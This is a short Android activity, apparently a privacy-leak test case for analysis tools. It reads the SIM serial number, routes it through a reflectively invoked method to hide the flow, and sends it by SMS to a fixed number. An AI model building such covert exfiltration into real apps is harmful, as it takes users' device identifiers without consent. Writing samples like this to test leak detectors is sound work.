package cn.privlens.suite.base_method_overridden;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.lang.reflect.Method;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            Method line = Derived.class.getSuperclass().getDeclaredMethod("line", String.class);
            Object text = line.invoke(new Derived(), ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber());
            SmsManager.getDefault().sendTextMessage("10690000", null, (String) text, null, null);
        } catch (ReflectiveOperationException e) {
            Log.w("suite", "none");
        }
    }
}
